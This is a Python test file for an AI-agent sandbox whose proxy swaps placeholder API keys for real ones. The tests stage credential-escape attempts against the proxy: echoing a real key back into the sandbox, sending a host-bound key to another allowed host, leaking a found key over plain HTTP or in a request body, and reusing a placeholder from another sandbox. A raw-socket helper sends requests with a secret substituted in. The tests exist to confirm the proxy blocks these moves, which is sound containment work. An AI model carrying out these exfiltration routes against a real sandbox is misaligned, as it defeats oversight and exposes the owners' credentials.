"""Attacks on the credential wall: getting a real value back into the
sandbox, sending one where it was not meant to go, or using a value the
agent should never have held.

Inside, a key is a placeholder that the proxy swaps for the real value
only in requests it inspects, toward the hosts the key is bound to. The
test's API accepts only real values and reflects what it received."""

import json
import re
import uuid

import pytest

import netkit
from escape import attack, verdict

PLACEHOLDER = re.compile(r"brig-ph-[0-9a-f]{32}")


@pytest.fixture(scope="module")
def servers():
    s = netkit.CredServers()
    yield s
    s.stop()


def key(servers, brig, name="api", var="API_KEY", host=None):
    """A provider NAME holding VAR (a fresh real value); the value."""
    value = netkit.real_value()
    servers.secrets.append(value)
    netkit.provider(brig, name, var, value, host)
    return value


def received(server, path):
    """Everything SERVER received for PATH, as one string."""
    return json.dumps(netkit.seen_by(server, path))


@attack("scrub")
def test_echoed_value_comes_back_scrubbed(brig, off, tmp_path, servers):
    """Sends the placeholder to an allowed API that echoes its request:
    the real value would come back into the sandbox."""
    value = key(servers, brig)
    path = "/echo-" + uuid.uuid4().hex[:8]
    answer, r = netkit.tls_request(
        brig, off, servers.opts(servers.policy(tmp_path), "api"),
        host="allowed.test", path=path, headers={"x-api-key": "$API_KEY"})
    assert answer and answer["status"] == 200, r.stdout + r.stderr
    verdict(off, value in answer["text"], r)
    if not off:
        assert PLACEHOLDER.search(answer["text"]), answer


@attack("cred-binding")
def test_bound_value_to_other_host(brig, off, tmp_path, servers):
    """Sends a key bound to voice.test to other.test (also allowed): an
    allowed host the agent controls would collect the key."""
    value = key(servers, brig, "bound", "BOUND_KEY", host="voice.test:443")
    key(servers, brig)  # an unbound key: other.test is inspected
    path = "/bound-" + uuid.uuid4().hex[:8]
    answer, r = netkit.tls_request(
        brig, off, servers.opts(servers.policy(tmp_path), "bound", "api"),
        host="other.test", path=path, headers={"x-api-key": "$BOUND_KEY"})
    verdict(off, value in received(servers.tls, path), r)
    if not off:
        assert answer["status"] == 403 and \
            "credential_endpoint_mismatch" in answer["text"], answer


@attack("leak-check")
def test_real_value_over_plain_http(brig, off, tmp_path, servers):
    """Sends a real value the agent got hold of in a plain-HTTP query:
    it would cross the network in clear, to anyone on the path."""
    value = key(servers, brig)
    path = "/leak-" + uuid.uuid4().hex[:8]
    head = (f"GET http://plain.test{path}?key={{secret}} HTTP/1.1\n"
            "Host: plain.test\n\n")
    r = brig("run", *servers.opts(servers.policy(tmp_path), "api"), "--",
             "python3", "-c", SEND_WITH_SECRET, json.dumps(head),
             input=value, env=env(off))
    verdict(off, value in received(servers.plain, path), r)
    if not off:
        assert '"secret_leak"' in r.stdout, r.stdout + r.stderr


@attack("leak-check")
def test_real_value_in_request_body(brig, off, tmp_path, servers):
    """Posts a real value in the body of an inspected request: a key
    the agent found (in a file, say) goes out as data."""
    value = key(servers, brig)
    path = "/body-" + uuid.uuid4().hex[:8]
    answer, r = netkit.tls_request(
        brig, off, servers.opts(servers.policy(tmp_path), "api"),
        secret=value, host="allowed.test", path=path, method="POST",
        headers={"x-api-key": "$API_KEY"}, body="token={secret}")
    # The header's placeholder is resolved as it should be: only the
    # body tells whether the leaked value went out.
    bodies = [q["body"] for q in netkit.seen_by(servers.tls, path)]
    verdict(off, any(value in b for b in bodies), r)
    if not off:
        assert "secret_leak" in answer["text"], answer


def test_placeholder_over_plain_http_not_resolved(brig, tmp_path, servers):
    """A placeholder in a plain-HTTP request goes out as the placeholder:
    a value is never put on the wire in clear."""
    value = key(servers, brig)
    path = "/plain-" + uuid.uuid4().hex[:8]
    head = (f"GET http://plain.test{path} HTTP/1.1\nHost: plain.test\n"
            "x-api-key: $API_KEY\n\n")
    r = brig("run", *servers.opts(servers.policy(tmp_path), "api"), "--",
             "sh", "-c", 'python3 -c "$0" "$(printf %s "$1" | '
             'envsubst)"', SEND_WITH_SECRET, json.dumps(head))
    assert r.returncode == 0, r.stderr
    got = received(servers.plain, path)
    assert value not in got and PLACEHOLDER.search(got), got


def test_placeholder_from_other_sandbox(brig, tmp_path, servers):
    """Sandbox A's placeholder, used in sandbox B with the same provider,
    is not resolved: placeholders are per sandbox."""
    value = key(servers, brig)
    opts = servers.opts(servers.policy(tmp_path), "api")
    r = brig("run", *opts, "--", "printenv", "API_KEY")
    theirs = r.stdout.strip()
    assert PLACEHOLDER.fullmatch(theirs), r.stdout + r.stderr
    path = "/other-" + uuid.uuid4().hex[:8]
    answer, r = netkit.tls_request(brig, "", opts, host="allowed.test",
                                   path=path, headers={"x-api-key": theirs})
    got = received(servers.tls, path)
    assert value not in got and theirs in got, got
    assert answer["status"] == 401, answer


# Sends argv[1] (a JSON string) to the proxy with "{secret}" replaced by
# stdin; prints the answer.
SEND_WITH_SECRET = r"""
import json, socket, sys
secret = sys.stdin.read()
head = json.loads(sys.argv[1]).replace("{secret}", secret)
s = socket.create_connection(("127.0.0.1", 3128), timeout=10)
s.sendall(head.replace("\n", "\r\n").encode())
out = b""
while True:
    c = s.recv(65536)
    if not c:
        break
    out += c
print(out.decode("latin-1"))
"""


def env(off):
    from escape import env_for
    return env_for(off)
